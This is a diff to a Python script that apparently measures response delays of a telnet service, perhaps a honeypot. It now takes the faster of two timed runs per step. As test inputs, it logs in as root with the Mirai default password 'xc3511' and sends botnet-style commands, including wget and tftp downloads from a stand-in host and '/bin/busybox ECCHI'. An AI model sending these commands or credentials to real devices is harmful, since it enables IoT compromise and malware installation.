@@ -24,15 +24,22 @@ def timed(send, want, what):
     ms = (time.monotonic() - start) * 1000
     print("%-40s %8.1f ms" % (what, ms))
     return ms
+# Each step twice, the faster time counts: a deliberate delay is there both times, a hiccup
+# of a busy machine rarely is.
 until(b"login: ")
-worst = 0
+best = {}
+def keep(what, ms):
+    best[what] = min(best.get(what, ms), ms)
+for _ in range(2):
+    s.sendall(b"root\r\n"); until(b"Password: ")
+    keep("failed login", timed(b"wrong\r\n", b"login: ", "failed login"))
 s.sendall(b"root\r\n"); until(b"Password: ")
-worst = max(worst, timed(b"wrong\r\n", b"login: ", "failed login"))
-s.sendall(b"root\r\n"); until(b"Password: ")
-worst = max(worst, timed(b"xc3511\r\n", b"# ", "login"))
-for command in [b"sleep 2", b"wget http://203.0.113.5/x", b"tftp -g -r x 203.0.113.5",
-                b"ping -c 2 203.0.113.5", b"/bin/busybox ECCHI"]:
-    worst = max(worst, timed(command + b"\r\n", b"# ", command.decode()))
+keep("login", timed(b"xc3511\r\n", b"# ", "login"))
+for _ in range(2):
+    for command in [b"sleep 2", b"wget http://203.0.113.5/x", b"tftp -g -r x 203.0.113.5",
+                    b"ping -c 2 203.0.113.5", b"/bin/busybox ECCHI"]:
+        keep(command.decode(), timed(command + b"\r\n", b"# ", command.decode()))
+worst = max(best.values())
 print("worst %.1f ms (limit %.0f ms)" % (worst, limit_ms))
 sys.exit(0 if worst <= limit_ms else 1)
 PY
